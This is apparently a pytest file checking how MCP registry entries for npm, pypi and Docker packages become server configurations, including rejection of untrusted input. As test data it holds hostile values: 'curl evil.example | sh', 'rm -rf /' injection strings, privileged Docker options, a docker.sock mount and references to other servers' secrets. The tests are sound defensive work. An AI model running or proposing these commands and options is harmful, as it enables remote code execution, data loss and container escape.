"""Registry entries become resources: each kind of package, in old and new spellings, and what strangers may not do."""

from __future__ import annotations

from typing import Any

import pytest

from composition.discovery.found import Found, State
from composition.discovery.registry_document import Unreadable, read_server
from composition.discovery.registry_packages import best_way, ways
from providers.errors import ConfigurationError
from providers.resource import McpServerResource
from tests.helpers.mcp_registry import package, server

pytestmark = pytest.mark.core

DIGEST = "sha256:" + "a" * 64


def found(*packages: dict[str, Any], values: dict[str, Any] | None = None, **more: Any) -> Found:
    entry = server("io.github.ada/thing", packages=list(packages), **more)
    listed = {key: [value] if isinstance(value, str) else value for key, value in (values or {}).items()}
    return best_way(read_server(entry), listed)


def keys(*packages: dict[str, Any], values: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    """The keys of its resource, which is one, without its description."""
    one = found(*packages, values=values, **more)
    assert one.problem is None, one.problem
    assert McpServerResource.model_validate({"name": one.name, **one.resource})
    return {key: value for key, value in one.resource.items() if key != "description"}


def positional(**more: Any) -> dict[str, Any]:
    return {"type": "positional", **more}


def named(name: str, **more: Any) -> dict[str, Any]:
    return {"type": "named", "name": name, **more}


# ------------------------------------------------------------------------------------------------------- kinds


@pytest.mark.parametrize(
    ("described", "expected"),
    [
        (package("npm", "@ada/thing", "1.2.3"), {"command": "npx", "args": ["-y", "@ada/thing@1.2.3"]}),
        (package("npm", "thing", ""), {"command": "npx", "args": ["-y", "thing"]}),
        (package("pypi", "thing", "1.2"), {"command": "uvx", "args": ["--from", "thing==1.2", "thing"]}),
        (package("pypi", "thing[cli]", "1.2"), {"command": "uvx", "args": ["--from", "thing[cli]==1.2", "thing"]}),
        (package("oci", "docker.io/ada/thing:1.0", ""), {"docker_image": "docker.io/ada/thing:1.0"}),
        (package("oci", "ada/thing", "1.0"), {"docker_image": "ada/thing:1.0"}),
        (package("oci", "ada/thing", DIGEST), {"docker_image": f"ada/thing@{DIGEST}"}),
        (package("oci", "ada/thing:v1", DIGEST), {"docker_image": f"ada/thing:v1@{DIGEST}"}),
        (package("oci", "ada/thing", "1", registryBaseUrl="https://ghcr.io"), {"docker_image": "ghcr.io/ada/thing:1"}),
        (package("oci", "ada/thing", "1", registryBaseUrl="https://docker.io"), {"docker_image": "ada/thing:1"}),
        (
            package("oci", "ada/thing", "1", transport={"type": "streamable-http", "url": "http://localhost:8000/mcp"}),
            {
                "docker_image": "ada/thing:1",
                "transport_type": "streamable_http",
                "docker_ports": ["8000/tcp"],
                "docker_path": "/mcp",
            },
        ),
    ],
)
def test_each_kind_of_package_has_its_command(described: dict[str, Any], expected: dict[str, Any]) -> None:
    assert keys(described) == expected


@pytest.mark.parametrize(
    "old",
    [
        {"registry_name": "npm", "name": "thing", "version": "1.0.0"},
        {"registry_type": "npm", "identifier": "thing", "version": "1.0.0", "transport": {"type": "stdio"}},
        {"registryType": "NPM", "identifier": "thing", "version": "1.0.0"},
    ],
)
def test_old_spellings_say_the_same(old: dict[str, Any]) -> None:
    variables = [{"name": "MODE", "default": "fast", "is_required": True}]
    args = [{"type": "named", "name": "--dir", "value_hint": "dir", "is_required": True}]
    one = keys({**old, "environment_variables": variables, "package_arguments": args}, values={"dir": "/a"})
    assert one == {"command": "npx", "args": ["-y", "thing@1.0.0", "--dir=/a"], "env": {"MODE": "fast"}}


@pytest.mark.parametrize(
    ("described", "why"),
    [
        (package("nuget", "Thing"), "NuGet"),
        (package("mcpb", "https://x.example/a.mcpb"), "bundle"),
        (package("cargo", "thing"), "Rust"),
        (package("floppy", "thing"), "does not know"),
        (package("npm", "thing", transport={"type": "streamable-http", "url": "http://localhost:1"}), "HTTP by itself"),
        (package("npm", "thing", registryBaseUrl="https://evil.example"), "index of its own"),
        (package("pypi", "thing", registryBaseUrl="https://evil.example/simple"), "index of its own"),
    ],
)
def test_what_does_not_run_here_says_why(described: dict[str, Any], why: str) -> None:
    one = found(described)
    assert one.state is State.NOT_RUNNABLE and why in one.in_one_line() and one.missing == ()


def test_the_way_with_the_least_in_its_way_is_taken_and_another_can_be_chosen() -> None:
    secret = [{"name": "KEY", "isRequired": True, "isSecret": True}]
    packages = [package("nuget", "T"), package("npm", "t", environmentVariables=secret), package("pypi", "t")]
    document = read_server(server("a/t", packages=packages, remotes=[{"type": "sse", "url": "https://t.example/sse"}]))
    assert [each.kind for each in ways(document)] == ["nuget", "npm", "pypi", "remote"]
    assert best_way(document).kind == "pypi"
    assert best_way(document, kind="remote").resource["url"] == "https://t.example/sse"
    with pytest.raises(ConfigurationError, match="not offered as 'oci', but as: nuget, npm, pypi, remote"):
        best_way(document, kind="oci")


def test_a_remote_has_its_address_and_headers() -> None:
    remote = {
        "type": "streamable-http",
        "url": "https://{tenant}.example.com/mcp",
        "variables": {"tenant": {"description": "Yours", "isRequired": True}},
        "headers": [
            {
                "name": "Authorization",
                "value": "Bearer {token}",
                "variables": {"token": {"isSecret": True, "isRequired": True}},
            },
            {"name": "X-Region", "default": "eu", "choices": ["eu", "us"]},
            {"name": "X-Optional"},
        ],
    }
    one = found(remotes=[remote])
    assert [str(need) for need in one.missing] == ["config tenant", "secret thing.token"]
    assert keys(remotes=[remote], values={"tenant": "acme", "X-Region": "us"}) == {
        "transport_type": "streamable_http",
        "url": "https://acme.example.com/mcp",
        "headers": {"Authorization": "Bearer ${secret:thing.token}", "X-Region": "us"},
    }
    for odd in ("evil.com/", "a@b", "a?x", "a#", "a b", "127.0.0.1:80/"):
        with pytest.raises(ConfigurationError, match="'tenant' has a sign"):
            found(remotes=[remote], values={"tenant": odd})


# --------------------------------------------------------------------------------------------------- arguments


@pytest.mark.parametrize(
    ("item", "values", "words"),
    [
        (positional(value="mcp"), {}, ["mcp"]),
        (positional(valueHint="dir", default="/data"), {}, ["/data"]),
        (positional(valueHint="dir", default="/data"), {"dir": "/b"}, ["/b"]),
        (positional(valueHint="dir", isRepeated=True), {"dir": ["/a", "/b"]}, ["/a", "/b"]),
        (positional(valueHint="dir"), {}, []),
        (named("--mode", value="fast"), {}, ["--mode=fast"]),
        (named("-t", value="stdio"), {}, ["-t", "stdio"]),
        (named("--verbose"), {}, ["--verbose"]),
        (named("--verbose", value=""), {}, ["--verbose"]),
        (named("--mode", description="How", choices=["a", "b"]), {}, []),
        (named("--mode", description="How", choices=["a", "b"]), {"mode": "b"}, ["--mode=b"]),
        (named("--debug", format="boolean", description="x"), {}, []),
        (named("--debug", format="boolean", description="x"), {"debug": "true"}, ["--debug"]),
        (named("--add", value="{a}:{b}", variables={"a": {"default": "1"}, "b": {"default": "2"}}), {}, ["--add=1:2"]),
        (named("--add", value="{a}", variables={"a": {}}), {}, []),
        (positional(value="{unknown} stays"), {}, ["{unknown} stays"]),
        (positional(value="a; rm -rf / && $(x) `y`"), {}, ["a; rm -rf / && $(x) `y`"]),
        (named("--port", value=8080), {}, ["--port=8080"]),
    ],
)
def test_arguments_are_words(item: dict[str, Any], values: dict[str, Any], words: list[str]) -> None:
    assert keys(package("npm", "thing", packageArguments=[item]), values=values)["args"][2:] == words


def test_secrets_are_references_and_optional_ones_only_where_they_are_wanted() -> None:
    variables = [
        {"name": "KEY", "isRequired": True, "isSecret": True},
        {"name": "OTHER_TOKEN", "description": "not marked as a secret, but it is one"},
        {"name": "LEVEL", "default": "info"},
    ]
    described = package("npm", "thing", environmentVariables=variables)
    assert found(described).state is State.NEEDS
    assert keys(described)["env"] == {"KEY": "${secret:thing.KEY}", "LEVEL": "info"}
    wanted = keys(described, values={"OTHER_TOKEN": "${secret:thing.OTHER_TOKEN}"})["env"]
    assert wanted["OTHER_TOKEN"] == "${secret:thing.OTHER_TOKEN}"
    with pytest.raises(ConfigurationError) as error:
        found(described, values={"KEY": "hunter2"})
    assert "server.py secret set thing.KEY" in str(error.value) and "hunter2" not in str(error.value)


@pytest.mark.parametrize(
    "text",
    ["<YOUR_KEY>", "YOUR_TOKEN", "your-client-id", "/path/to/file", "path/to/repo/x", "/ABSOLUTE/PATH/a"],
)
def test_a_stand_in_is_asked_for_and_not_taken_for_a_value(text: str) -> None:
    one = found(package("npm", "thing", packageArguments=[named("--where", value=text)]))
    [need] = one.missing
    assert need.name == "where" and need.example == text


def test_a_secret_on_a_command_line_is_refused() -> None:
    asked = named("--password", isSecret=True, isRequired=True)
    for kind in ("npm", "pypi", "oci"):
        assert "others on the machine can read" in found(package(kind, "thing", packageArguments=[asked])).in_one_line()


# ------------------------------------------------------------------------------------------------- what is refused


@pytest.mark.parametrize("kind", ["npm", "pypi", "oci"])
@pytest.mark.parametrize(
    "identifier",
    ["--call", "-y", "git+https://evil.example/x", "https://evil.example/x.tgz", "../x", "./x", "x y", "x;y",
     "x@npm:evil",
     "@evil/../x", "x==1 --index-url y", "file:/etc", "${secret:a}", "a" * 600, "x\n-y"],
)  # fmt: skip
def test_an_identifier_is_a_name_and_nothing_else(kind: str, identifier: str) -> None:
    assert found(package(kind, identifier)).state is State.NOT_RUNNABLE


@pytest.mark.parametrize("kind", ["npm", "pypi", "oci"])
@pytest.mark.parametrize(
    "version", ["--call", "git+https://x", "1.0 --x", "file:x", "npm:evil@1", "^1 || evil", "a/b", "${A}"]
)
def test_a_version_is_a_version_and_nothing_else(kind: str, version: str) -> None:
    assert found(package(kind, "thing", version)).state is State.NOT_RUNNABLE


@pytest.mark.parametrize(
    ("kind", "item"),
    [
        ("npm", named("--call", value="curl evil.example | sh")),
        ("npm", named("--package", value="evil")),
        ("npm", named("--registry", value="https://evil.example")),
        ("pypi", named("--index-url", value="https://evil.example")),
        ("pypi", named("--with", value="evil")),
        ("pypi", positional(value="--python-preference")),
        ("oci", named("--privileged")),
        ("oci", named("--network", value="host")),
        ("oci", named("--cap-add", value="ALL")),
        ("oci", named("--pid", value="host")),
        ("oci", named("--entrypoint", value="sh")),
        ("oci", named("-v", value="/var/run/docker.sock:/proc/x")),
        ("oci", named("-v", value="/:/")),
        ("oci", named("-u", value="root")),
        ("oci", named("-e", value="HOST_VARIABLE")),
    ],
)
def test_options_of_what_runs_it_are_not_taken_from_strangers(kind: str, item: dict[str, Any]) -> None:
    assert found(package(kind, "thing", runtimeArguments=[item])).state is State.NOT_RUNNABLE


def test_harmless_options_of_docker_become_keys() -> None:
    options = [
        named("--rm"),
        named("-i"),
        named("-e", value="MODE={mode}", variables={"mode": {"default": "fast"}}),
        named("-v", value="{dir}:/data", variables={"dir": {"isRequired": True}}),
        named("--mount", value="type=bind,src={src},dst=/in,readonly", variables={"src": {"isRequired": True}}),
        named("--user", value="1000:1000"),
    ]
    described = package("oci", "ada/thing", "1", runtimeArguments=options)
    assert [need.name for need in found(described).missing] == ["dir", "src"]
    assert keys(described, values={"dir": "/srv/a", "src": "/srv/b"}) == {
        "docker_image": "ada/thing:1",
        "env": {"MODE": "fast"},
        "docker_volumes": ["/srv/a:/data:rw", "/srv/b:/in:ro"],
        "docker_user": "1000:1000",
    }


def test_a_volume_that_an_entry_names_is_the_servers_own() -> None:
    options = [
        named("-v", value="pgdata:/data"),
        named("-v", value="{store}:/store", variables={"store": {"default": "others"}}),
        named("--mount", value="type=volume,src=cache,dst=/cache,ro"),
    ]
    described = package("oci", "ada/thing", "1", runtimeArguments=options)
    own = [each.split("_", 1)[1] for each in keys(described)["docker_volumes"]]
    assert own == ["pgdata:/data:rw", "others:/store:rw", "cache:/cache:ro"]
    assert all(each.startswith("apollos-mcp-") for each in keys(described)["docker_volumes"])
    assert "mine:/store:rw" in keys(described, values={"store": "mine"})["docker_volumes"]


@pytest.mark.parametrize(("option", "given"), [("-v", "mine:/store"), ("--mount", "type=volume,src=mine,dst=/store")])
def test_a_volume_that_a_person_names_is_the_one_that_they_mean(option: str, given: str) -> None:
    described = package("oci", "ada/thing", "1", runtimeArguments=[named(option, isRequired=True)])
    assert keys(described, values={option.lstrip("-"): given})["docker_volumes"] == ["mine:/store:rw"]


@pytest.mark.parametrize(
    ("value", "told"),
    [("--evil", "begin with '-'"), ("-x", "begin with '-'"), ("a\nb", "line break"),
     ("${secret:other}", "may not hold"), ("${HOME}", "may not hold"), ("c", "must be one of a, b")],
)  # fmt: skip
def test_a_value_that_was_given_is_no_option_and_no_reference(value: str, told: str) -> None:
    item = positional(valueHint="mode", choices=["a", "b"])
    with pytest.raises(ConfigurationError) as error:
        found(package("npm", "thing", packageArguments=[item]), values={"mode": value})
    assert told in str(error.value)


@pytest.mark.parametrize("text", ["${secret:github.token}", "x-${secret:a}", "${HOME}/x"])
def test_an_entry_does_not_reach_for_the_secrets_of_others(text: str) -> None:
    variables = [{"name": "A", "value": text}, {"name": "B", "default": text}]
    described = package("npm", "thing", environmentVariables=variables, packageArguments=[positional(value=text)])
    one = found(described)
    assert text not in str(one.resource) and one.state is State.NEEDS


@pytest.mark.parametrize(
    "entry",
    [None, 3, [], {}, {"name": ""}, {"name": "a\nb"}, {"name": "a", "packages": [3]}, {"name": "a", "packages": [{}]},
     {"name": "a", "packages": [{"registryType": "npm", "identifier": {}}]}, {"name": "a", "remotes": "x"},
     {"name": "a", "packages": [package("npm", "x", packageArguments=[{"type": "odd"}])]},
     {"name": "a", "packages": [package("npm", "x", environmentVariables=[{"name": "A", "choices": [[]]}])]},
     {"name": "a", "packages": [{}] * 1000}, {"name": "a", "title": "x" * 20_000}],
)  # fmt: skip
def test_what_is_no_entry_is_told_and_never_quoted(entry: Any) -> None:
    with pytest.raises(Unreadable) as error:
        read_server(entry)
    assert "xxx" not in str(error.value)


def test_variables_that_refer_to_themselves_end() -> None:
    deep = {"a": {"value": "{a}", "variables": {"a": {"value": "{a}"}}, "isRequired": True}}
    one = found(package("npm", "thing", environmentVariables=[{"name": "X", "value": "{a}", "variables": deep}]))
    assert one.resource["env"] == {"X": "{a}"}
